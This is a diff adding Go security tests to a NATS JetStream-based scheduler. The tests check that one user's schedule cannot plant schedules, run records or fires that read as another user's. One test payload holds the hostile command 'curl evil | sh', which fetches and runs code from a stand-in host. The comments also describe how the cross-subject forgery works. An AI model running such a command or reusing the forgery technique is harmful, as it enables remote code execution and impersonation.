@@ -5,6 +5,7 @@ package schedule_test
 
 import (
 	"context"
+	"encoding/json"
 	"errors"
 	"fmt"
 	"strings"
@@ -351,5 +352,156 @@ func TestServerFiresAMissedScheduleOnceAfterARestart(t *testing.T) {
 		if !got.Nominal.Equal(tc.due) || got.Late < time.Second {
 			t.Fatalf("%s: due %v late %v; want due %v and late", got.Def.Name, got.Nominal, got.Late, tc.due)
 		}
+	}
+}
+
+// plant has alice's schedule fire a copy of data onto target, another
+// principal's subject in the same stream: ADR-51 lets a schedule's
+// Nats-Schedule-Target name any subject of its stream, and the copy comes
+// without the Nats-Schedule headers but with the server's Nats-Scheduler.
+// It returns once the copy is stored.
+func plant(t *testing.T, js jetstream.JetStream, from, target string, data []byte) {
+	t.Helper()
+	s, err := js.Stream(t.Context(), broker.SchedulesStream)
+	if err != nil {
+		t.Fatal(err)
+	}
+	msg := nats.NewMsg(from)
+	msg.Data = data
+	msg.Header.Set(schedule.HeaderSchedule, "@at "+time.Now().Add(time.Second).UTC().Format(time.RFC3339))
+	msg.Header.Set(schedule.HeaderScheduleTarget, target)
+	if _, err := js.PublishMsg(t.Context(), msg); err != nil {
+		t.Fatalf("alice's schedule targeting %s: %v", target, err)
+	}
+	waitFor(t, 5*time.Second, "the planted copy on "+target, func() bool {
+		m, err := s.GetLastMsgForSubject(t.Context(), target)
+		return err == nil && m.Header.Get(schedule.HeaderScheduler) == from
+	})
+}
+
+// Alice may publish only on her own schedule subjects, but her schedule's
+// fire can land on bob's schedule and run-record subjects. None of it may
+// read as bob's: not as a (paused) schedule he could resume, nor as a fire
+// record that decides his catch-up; what bob really stored still reads.
+func TestPlantedSchedulesAndRecordsAreNotTheOwners(t *testing.T) {
+	t.Parallel()
+	_, js, st := connect(t, natsURL)
+	evil := def("plant", "bob", schedule.Spec{Every: time.Hour})
+	evil.Request.Command, evil.Request.Params = "core.shell", map[string]any{"script": "curl evil | sh"}
+
+	// A schedule name bob never had.
+	plant(t, js, broker.ScheduleSubject("evil1", "alice"), broker.ScheduleSubject("plant", "bob"), evil.Encode())
+	if e, err := st.Get(t.Context(), "plant"); !errors.Is(err, schedule.ErrNotFound) {
+		t.Fatalf("alice's copy reads as bob's schedule: %+v, %v", e, err)
+	}
+	list, err := st.List(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, e := range list {
+		if e.Name == "plant" {
+			t.Fatalf("alice's copy listed as bob's schedule: %+v", e)
+		}
+	}
+
+	// Over a schedule bob has: his still reads, not alice's copy.
+	mine := def("planted-over", "bob", schedule.Spec{Every: time.Hour})
+	if err := st.Put(t.Context(), mine); err != nil {
+		t.Fatal(err)
+	}
+	over := evil
+	over.Name = "planted-over"
+	plant(t, js, broker.ScheduleSubject("evil2", "alice"), broker.ScheduleSubject("planted-over", "bob"), over.Encode())
+	e, err := st.Get(t.Context(), "planted-over")
+	if err != nil || e.Paused || e.Request.Command != "core.echo" {
+		t.Fatalf("bob's schedule under alice's copy: %+v, %v", e, err)
+	}
+	list, err = st.List(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, e := range list {
+		if e.Name == "planted-over" {
+			n++
+			if e.Paused || e.Request.Command != "core.echo" {
+				t.Fatalf("listed: %+v", e)
+			}
+		}
+	}
+	if n != 1 {
+		t.Fatalf("bob's schedule listed %d times", n)
+	}
+
+	// Fire records: a forged one neither adds to bob's nor hides his last.
+	real := schedule.Run{Job: schedule.JobID("planted-over", "bob", time.Now().Truncate(time.Second)), Fire: time.Now().UTC().Truncate(time.Second), Relayed: time.Now().UTC(), Next: time.Now().Add(time.Hour).UTC()}
+	if err := st.Record(t.Context(), "planted-over", "bob", real); err != nil {
+		t.Fatal(err)
+	}
+	forged, _ := json.Marshal(schedule.Run{Job: "forged-job", Fire: time.Now().UTC(), Relayed: time.Now().UTC(), Skipped: "forged", Next: time.Unix(0, 0).UTC()})
+	plant(t, js, broker.ScheduleSubject("evil3", "alice"), broker.RunSubject("planted-over", "bob"), forged)
+	plant(t, js, broker.ScheduleSubject("evil4", "alice"), broker.RunSubject("never-ran", "bob"), forged)
+	runs, err := st.Runs(t.Context(), "planted-over", "bob")
+	if err != nil || len(runs) != 1 || runs[0].Job != real.Job {
+		t.Fatalf("bob's runs: %+v, %v", runs, err)
+	}
+	last, ok, err := st.LastRun(t.Context(), "planted-over", "bob")
+	if err != nil || !ok || last.Job != real.Job {
+		t.Fatalf("bob's last run: %+v %v %v", last, ok, err)
+	}
+	lasts, err := st.LastRuns(t.Context())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := lasts[broker.ScheduleSubject("planted-over", "bob")]; r.Job != real.Job {
+		t.Fatalf("bob's last run in LastRuns: %+v", r)
+	}
+	if r, ok := lasts[broker.ScheduleSubject("never-ran", "bob")]; ok {
+		t.Fatalf("a forged record listed: %+v", r)
+	}
+	if _, ok, err := st.RecordedOwner(t.Context(), "never-ran"); ok || err != nil {
+		t.Fatalf("a forged record names an owner: %v %v", ok, err)
+	}
+}
+
+// Catch-up runs only the latest of several missed fires; a fire alice's
+// schedule planted on bob's fire subject must not count as that later one
+// (it would make bob's own fire skipped, and is refused itself).
+func TestLaterFireCountsOnlyTheOwnersFires(t *testing.T) {
+	t.Parallel()
+	_, js, st := connect(t, natsURL)
+	s, err := js.Stream(t.Context(), broker.SchedulesStream)
+	if err != nil {
+		t.Fatal(err)
+	}
+	fire := func() uint64 {
+		t.Helper()
+		m, err := s.GetLastMsgForSubject(t.Context(), broker.FireSubject("later", "bob"))
+		if err != nil {
+			return 0
+		}
+		return m.Sequence
+	}
+	at := func() {
+		t.Helper()
+		before := fire()
+		d := def("later", "bob", schedule.Spec{At: time.Now().Add(time.Second).Truncate(time.Second)})
+		if err := st.Put(t.Context(), d); err != nil {
+			t.Fatal(err)
+		}
+		waitFor(t, 5*time.Second, "bob's fire", func() bool { return fire() > before })
+	}
+	at()
+	first := fire()
+	plant(t, js, broker.ScheduleSubject("later-evil", "alice"), broker.FireSubject("later", "bob"), def("later", "bob", schedule.Spec{}).Encode())
+	if later, err := st.LaterFire(t.Context(), "later", "bob", first); err != nil || later {
+		t.Fatalf("alice's planted fire counts as bob's later fire: %v, %v", later, err)
+	}
+	at()
+	if later, err := st.LaterFire(t.Context(), "later", "bob", first); err != nil || !later {
+		t.Fatalf("bob's own later fire: %v, %v", later, err)
+	}
+	if later, err := st.LaterFire(t.Context(), "later", "bob", fire()); err != nil || later {
+		t.Fatalf("after the last fire: %v, %v", later, err)
 	}
 }
